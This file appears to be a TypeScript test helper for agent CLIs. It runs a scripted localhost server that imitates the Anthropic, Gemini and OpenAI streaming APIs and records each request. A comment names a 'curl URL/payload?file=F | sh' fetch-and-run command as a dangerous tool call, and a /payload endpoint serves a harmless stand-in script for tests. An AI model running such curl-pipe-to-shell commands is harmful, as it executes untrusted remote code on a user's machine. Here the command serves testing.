/**
 * A scripted model server on 127.0.0.1 for the real agent CLIs: it speaks the
 * streaming APIs they call (Anthropic Messages, Gemini streamGenerateContent,
 * OpenAI Responses and Chat Completions) and answers the agent's main loop
 * from a script — a tool call, then text — deciding the step from how many
 * tool results the conversation already holds, so it needs no state.
 * Requests without tools (titles, summaries) get a short text. Every request
 * body is kept for the test to read what the model saw.
 *
 * @module
 */

/** One model answer. */
export type Step = { tool: string; input: Record<string, unknown> } | { text: string };

/** A running model server. */
export interface ModelServer extends AsyncDisposable {
  url: string;
  /** Every request's path, JSON body (or text) and whether it was the agent's main loop, in order. */
  requests: { path: string; body: unknown; main: boolean }[];
  /** The text of every request body, joined: what the model saw, for searching. */
  seen(): string;
}

/**
 * Starts the server. `script(results)` is the step to answer with when the
 * conversation holds `results` tool results (and its stop feedback, if any).
 */
export function modelServer(
  script: (results: number, body: string, url: string) => Step,
): ModelServer {
  const requests: { path: string; body: unknown; main: boolean }[] = [];
  const texts: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    const url = new URL(req.url);
    const text = req.method === "POST" ? await req.text() : "";
    let body: unknown = text;
    try {
      body = JSON.parse(text);
    } catch { /* not JSON */ }
    const main = hasTools(body);
    requests.push({ path: url.pathname, body, main });
    texts.push(text);
    const base = url.origin;
    if (url.pathname.endsWith("/messages") && req.method === "POST") {
      return anthropic(
        main ? script(count(text, /"type"\s*:\s*"tool_result"/), text, base) : { text: "ok" },
      );
    }
    if (
      url.pathname.includes(":streamGenerateContent") || url.pathname.includes(":generateContent")
    ) {
      return gemini(
        main ? script(count(text, /"functionResponse"\s*:/), text, base) : { text: "ok" },
      );
    }
    if (url.pathname.endsWith("/responses")) {
      return responses(
        main
          ? script(count(text, /"type"\s*:\s*"function_call_output"/), text, base)
          : { text: "ok" },
      );
    }
    if (url.pathname.endsWith("/chat/completions")) {
      return chat(main ? script(count(text, /"role"\s*:\s*"tool"/), text, base) : { text: "ok" });
    }
    if (url.pathname.endsWith("/models")) return Response.json({ data: [], models: [] });
    // A script a dangerous tool call would fetch and run (`curl URL/payload?file=F | sh`).
    if (url.pathname === "/payload") {
      return new Response(`touch '${url.searchParams.get("file")}'\n`);
    }
    return Response.json({});
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    requests,
    seen: () => texts.join("\n"),
    async [Symbol.asyncDispose]() {
      await server.shutdown();
    },
  };
}

function hasTools(body: unknown): boolean {
  if (typeof body !== "object" || body === null) return false;
  const tools = (body as { tools?: unknown }).tools;
  return Array.isArray(tools) && tools.length > 0;
}

/** How many times `pattern` occurs in `text`. */
function count(text: string, pattern: RegExp): number {
  return text.match(new RegExp(pattern.source, "g"))?.length ?? 0;
}

function sse(events: { event?: string; data: unknown }[]): Response {
  const body = events.map((e) =>
    `${e.event ? `event: ${e.event}\n` : ""}data: ${JSON.stringify(e.data)}\n\n`
  )
    .join("");
  return new Response(body, { headers: { "content-type": "text/event-stream" } });
}

let ids = 0;
const id = (prefix: string) => `${prefix}_${++ids}`;

/** Anthropic Messages over SSE. */
function anthropic(step: Step): Response {
  const events: { event: string; data: unknown }[] = [{
    event: "message_start",
    data: {
      type: "message_start",
      message: {
        id: id("msg"),
        type: "message",
        role: "assistant",
        model: "claude-sonnet-4-5",
        content: [],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: 10, output_tokens: 1 },
      },
    },
  }];
  if ("tool" in step) {
    events.push(
      {
        event: "content_block_start",
        data: {
          type: "content_block_start",
          index: 0,
          content_block: { type: "tool_use", id: id("toolu"), name: step.tool, input: {} },
        },
      },
      {
        event: "content_block_delta",
        data: {
          type: "content_block_delta",
          index: 0,
          delta: { type: "input_json_delta", partial_json: JSON.stringify(step.input) },
        },
      },
    );
  } else {
    events.push(
      {
        event: "content_block_start",
        data: { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } },
      },
      {
        event: "content_block_delta",
        data: {
          type: "content_block_delta",
          index: 0,
          delta: { type: "text_delta", text: step.text },
        },
      },
    );
  }
  events.push(
    { event: "content_block_stop", data: { type: "content_block_stop", index: 0 } },
    {
      event: "message_delta",
      data: {
        type: "message_delta",
        delta: { stop_reason: "tool" in step ? "tool_use" : "end_turn", stop_sequence: null },
        usage: { output_tokens: 5 },
      },
    },
    { event: "message_stop", data: { type: "message_stop" } },
  );
  return sse(events);
}

/** Gemini streamGenerateContent (`alt=sse`). */
function gemini(step: Step): Response {
  const part = "tool" in step
    ? { functionCall: { name: step.tool, args: step.input } }
    : { text: step.text };
  return sse([{
    data: {
      candidates: [{ content: { role: "model", parts: [part] }, finishReason: "STOP", index: 0 }],
      usageMetadata: { promptTokenCount: 10, candidatesTokenCount: 5, totalTokenCount: 15 },
      modelVersion: "gemini-2.5-flash",
    },
  }]);
}

/** OpenAI Responses over SSE (Codex). */
function responses(step: Step): Response {
  const responseId = id("resp");
  const item = "tool" in step
    ? {
      type: "function_call",
      id: id("fc"),
      call_id: id("call"),
      name: step.tool,
      arguments: JSON.stringify(step.input),
      status: "completed",
    }
    : {
      type: "message",
      id: id("msg"),
      role: "assistant",
      status: "completed",
      content: [{ type: "output_text", text: step.text, annotations: [] }],
    };
  const base = { id: responseId, object: "response", model: "gpt-5", created_at: 1 };
  return sse([
    {
      event: "response.created",
      data: { type: "response.created", response: { ...base, status: "in_progress", output: [] } },
    },
    {
      event: "response.output_item.added",
      data: { type: "response.output_item.added", output_index: 0, item },
    },
    {
      event: "response.output_item.done",
      data: { type: "response.output_item.done", output_index: 0, item },
    },
    {
      event: "response.completed",
      data: {
        type: "response.completed",
        response: {
          ...base,
          status: "completed",
          output: [item],
          usage: {
            input_tokens: 10,
            output_tokens: 5,
            total_tokens: 15,
            input_tokens_details: { cached_tokens: 0 },
            output_tokens_details: { reasoning_tokens: 0 },
          },
        },
      },
    },
  ]);
}

/** OpenAI Chat Completions, streaming (Copilot BYOK). */
function chat(step: Step): Response {
  const base = {
    id: id("chatcmpl"),
    object: "chat.completion.chunk",
    created: 1,
    model: "gpt-4.1",
  };
  const delta = "tool" in step
    ? {
      role: "assistant",
      content: null,
      tool_calls: [{
        index: 0,
        id: id("call"),
        type: "function",
        function: { name: step.tool, arguments: JSON.stringify(step.input) },
      }],
    }
    : { role: "assistant", content: step.text };
  return new Response(
    [
      `data: ${
        JSON.stringify({ ...base, choices: [{ index: 0, delta, finish_reason: null }] })
      }\n\n`,
      `data: ${
        JSON.stringify({
          ...base,
          choices: [{ index: 0, delta: {}, finish_reason: "tool" in step ? "tool_calls" : "stop" }],
          usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
        })
      }\n\n`,
      "data: [DONE]\n\n",
    ].join(""),
    { headers: { "content-type": "text/event-stream" } },
  );
}
